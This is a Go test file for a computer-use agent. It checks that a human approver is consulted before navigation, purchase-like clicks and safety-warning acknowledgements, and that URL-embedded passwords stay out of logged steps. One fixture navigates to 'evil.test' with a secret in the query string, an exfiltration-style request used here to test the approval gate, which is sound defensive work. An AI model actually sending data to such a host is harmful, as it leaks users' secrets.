package computeruse_test

import (
	"context"
	"errors"
	"strconv"
	"strings"
	"testing"

	"clank/computeruse"
	"clank/internal/test/computerusetest"
	"clank/sessions"
)

func TestPeopleAreAskedBeforeAnAddressIsOpened(t *testing.T) {
	for name, turn := range map[string]computeruse.Turn{
		"tool":   use(computeruse.ToolNavigate, `{"url":"http://evil.test/?q=secret"}`),
		"action": do(computeruse.Action{Kind: computeruse.ActNavigate, URL: "http://evil.test/?q=secret"}),
	} {
		t.Run(name, func(t *testing.T) {
			for _, p := range []*people{{no: errors.New("@ada said no")}, {decision: "allowed by @ada"}} {
				b := newBench(t, turn, say("done"))
				b.agent.Approver = p
				b.browser.Wrap = func(s *computerusetest.Screen) sessions.Page {
					return &careful{Screen: s, kinds: []string{"navigate"}}
				}
				b.answer(t)
				want := 1
				if p.no != nil {
					want = 0
				}
				if got := b.browser.Acts(); got != want || len(p.asked) != 1 {
					t.Errorf("no: %v; %d acts after %d questions, want %d after one", p.no, got, len(p.asked), want)
				}
			}
		})
	}
}

// people answer questions.
type people struct {
	decision string
	no       error
	asked    []sessions.Question
}

func (p *people) Ask(_ context.Context, _ sessions.Session, _ sessions.Task, q sessions.Question) (string, error) {
	p.asked = append(p.asked, q)
	return p.decision, p.no
}

func TestPeopleAreAskedBeforeWhatTheyWantToDecide(t *testing.T) {
	buys, moods := []string{"clickCoords"}, 0
	moody := func(string) string { // means something else each time
		moods++
		return strconv.Itoa(moods)
	}
	for _, tc := range []struct {
		name   string
		people people
		screen careful
		acts   int
		told   string // beside the outcome
		failed bool
		asked  int
	}{
		{"allowed", people{decision: "allowed by @ada"}, careful{kinds: buys}, 1, "Allowed by @ada.", false, 1},
		{"refused", people{no: errors.New("@ada said no")}, careful{kinds: buys}, 0, "@ada said no. Do not try it in another way", true, 1},
		{"nothing to ask", people{}, careful{}, 1, "", false, 0},
		{"changing its meaning", people{decision: "allowed by @ada"}, careful{kinds: buys, mark: moody}, 0, "the page changed what this does", true, 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b := newBench(t, do(click(1, 1)), say("done"))
			b.agent.Approver = &tc.people
			b.browser.Wrap = func(s *computerusetest.Screen) sessions.Page {
				tc.screen.Screen = s
				return &tc.screen
			}
			b.answer(t)
			o := b.told(t, 1).Outcomes[0]
			if b.browser.Acts() != tc.acts || len(tc.people.asked) != tc.asked || (o.Err != "") != tc.failed || !strings.Contains(o.Err+o.Text, tc.told) {
				t.Errorf("%d acts, %d questions, outcome %+v", b.browser.Acts(), len(tc.people.asked), o)
			}
		})
	}
}

func TestOnlyAYesOfSomebodyAcknowledgesASafetyCheck(t *testing.T) {
	checks := []computeruse.SafetyWarning{{ID: "cu_1", Code: "sensitive", Message: "a bank"}}
	for _, tc := range []struct {
		name    string
		consent sessions.Approver
		yes     bool
		says    string
	}{
		{"yes", &people{decision: "allowed by @ada"}, true, ""},
		{"no", &people{no: errors.New("@ada said no")}, false, "@ada said no"},
		{"nobody had to be asked", &people{}, false, "Nobody was asked"},
		{"nobody there", nil, false, "nobody who could be asked"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			turn := do(click(1, 1))
			turn.Calls[0].Safety = checks
			b := newBench(t, turn, say("done"))
			b.agent.Approver = tc.consent
			answer, _ := b.answer(t)
			if tc.yes {
				if got := b.told(t, 1).Outcomes[0].Acknowledged; len(got) != 1 || b.browser.Acts() != 1 {
					t.Errorf("acknowledged %v after %d acts", got, b.browser.Acts())
				}
				return
			}
			if !answer.Failed || !strings.Contains(answer.Text, tc.says) || b.browser.Acts() != 0 {
				t.Errorf("got %+v after %d acts, want a failed answer", answer, b.browser.Acts())
			}
			b.mind.Script = script(say("as you wish"))
			b.answer(t) // the session goes on
			if o := b.told(t, 1).Outcomes[0]; o.Err == "" || len(o.Acknowledged) != 0 {
				t.Errorf("the model was told %+v", o)
			}
		})
	}
}

func TestAPasswordInAnAddressIsNowhereButInTheBrowser(t *testing.T) {
	b := newBench(t,
		do(computeruse.Action{Kind: computeruse.ActNavigate, URL: "http://ada:hunter2@shop.test/"}),
		use(computeruse.ToolNavigate, `{"url":"http://bob:swordfish@shop.test/"}`), say("done"),
	)
	_, steps := b.answer(t)
	for _, s := range steps {
		if all := s.Label + string(s.Input) + s.Text + string(s.Memory); strings.Contains(all, "hunter2") || strings.Contains(all, "swordfish") {
			t.Errorf("step %d shows a password: %+v", s.N, s)
		}
	}
	if got := b.acts(); !strings.Contains(got, "http://ada:hunter2@shop.test/") || !strings.Contains(got, "http://bob:swordfish@shop.test/") {
		t.Errorf("the screen got %q", got)
	}
}
